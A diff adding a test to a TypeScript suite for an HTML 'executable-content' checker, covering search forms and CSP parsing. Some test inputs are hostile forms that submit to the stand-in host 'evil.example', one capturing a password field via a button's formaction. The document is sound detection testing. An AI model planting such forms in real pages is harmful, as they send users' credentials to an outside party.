@@ -55,6 +55,17 @@ describe('the executable-content check itself', () => {
     expect(VECTORS.length - inert.length).toBeGreaterThan(100);
   });
 
+  it('lets the site’s own search box pass, and no form that posts, goes elsewhere or is redirected', () => {
+    const page = (form: string) => executableIn(`<!doctype html><html><body>${form}</body></html>`);
+    expect(page('<form method="get" action="/search" role="search"><input name="q" type="search"><button type="submit">بگرد</button></form>')).toEqual([]);
+    expect(page('<form method="post" action="/search"><input name="q" type="search"></form>')).toEqual(['<form> element', '<input> element']);
+    expect(page('<form action="https://evil.example/"><input name="q" type="search"></form>')).toEqual(['<form> element', '<input> element']);
+    expect(page('<form action="/search"><input type="password" name="p"><button formaction="https://evil.example/">x</button></form>')).toEqual([
+      '<input> element',
+      '<button> element',
+    ]);
+  });
+
   it('reads a CSP as a browser does', () => {
     expect(inlineScriptAllowedBy("default-src 'none'; style-src 'self'")).toBeNull();
     expect(inlineScriptAllowedBy("default-src 'self'; script-src 'self' 'unsafe-inline'")).toBe("script-src allows 'unsafe-inline'");
